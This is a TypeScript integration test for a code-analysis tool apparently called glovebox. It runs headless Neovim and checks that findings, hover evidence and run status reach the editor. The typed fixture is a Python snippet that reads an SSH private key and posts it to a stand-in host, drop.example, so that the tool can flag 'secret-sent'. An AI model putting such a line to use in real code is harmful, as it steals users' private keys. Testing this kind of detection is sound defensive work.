import { execFile } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { expect, it } from 'vitest';

const MAIN = join(import.meta.dirname, '../cli/main.ts');
const CONFIGURATION = join(import.meta.dirname, '../../../../examples/editors/neovim.lua');
const NVIM = '/usr/bin/nvim';

/** Types into a buffer, saves it, and writes what the editor then shows, all within a bound. */
const SCRIPT = `
local function wait(what, look)
  if not vim.wait(15000, look, 20) then error(what .. ' did not come') end
end
local function rules()
  return vim.tbl_map(function(one) return one.code end, vim.diagnostic.get(0))
end
local told = {}
vim.cmd('edit typed.py')
wait('the client', function() return #vim.lsp.buf_get_clients(0) > 0 end)
vim.api.nvim_buf_set_lines(0, 0, -1, false, {
  'import requests', 'key = open("/home/ada/.ssh/id_rsa").read()', 'requests.post("https://drop.example/k", data=key)',
})
wait('a finding', function() return vim.tbl_contains(rules(), 'secret-sent') end)
told.typed = rules()
vim.api.nvim_win_set_cursor(0, { 3, 0 })
local hover = vim.lsp.buf_request_sync(0, 'textDocument/hover', vim.lsp.util.make_position_params(), 5000)
told.hover = hover
vim.api.nvim_buf_set_lines(0, 0, -1, false, { 'open("/tmp/left", "w").write("x")', 'raise SystemExit(0)' })
wait('a clean buffer', function() return not vim.tbl_contains(rules(), 'secret-sent') end)
local seen = false
vim.lsp.handlers['glovebox/status'] = function(_, status) if status.state == 'seen' then seen = status end end
vim.cmd('write')
wait('a run', function() return seen end)
told.seen = seen
local file = io.open('told.json', 'w')
file:write(vim.fn.json_encode(told))
file:close()
vim.cmd('qall!')
`;

it('Neovim shows findings while somebody types, evidence on hover and what a run did', async (context) => {
  if (!existsSync(NVIM)) context.skip('Neovim is not installed: ./setup.sh all');
  const folder = mkdtempSync(join(tmpdir(), 'glovebox-nvim-'));
  try {
    writeFileSync(join(folder, 'script.lua'), SCRIPT);
    const env = {
      ...process.env,
      HOME: folder,
      XDG_CONFIG_HOME: folder,
      GLOVEBOX_COMMAND: `${process.execPath} ${MAIN}`,
    };
    const args = ['--headless', '-u', CONFIGURATION, '-c', 'filetype on', '-c', 'luafile script.lua', '-c', 'cquit 3'];
    const { stderr } = await promisify(execFile)(NVIM, args, { cwd: folder, env, timeout: 60_000 }).catch(
      (error) => error,
    );
    expect(existsSync(join(folder, 'told.json')), stderr).toBe(true);
    const told = JSON.parse(readFileSync(join(folder, 'told.json'), 'utf8'));
    expect(told.typed).toContain('secret-sent');
    expect(JSON.stringify(told.hover)).toMatch(/id_rsa.*drop\.example/);
    expect(told.seen).toMatchObject({
      decision: 'allow',
      events: [{ capability: 'file.write', target: '/tmp/left', line: 1 }],
    });
  } finally {
    rmSync(folder, { recursive: true });
  }
});
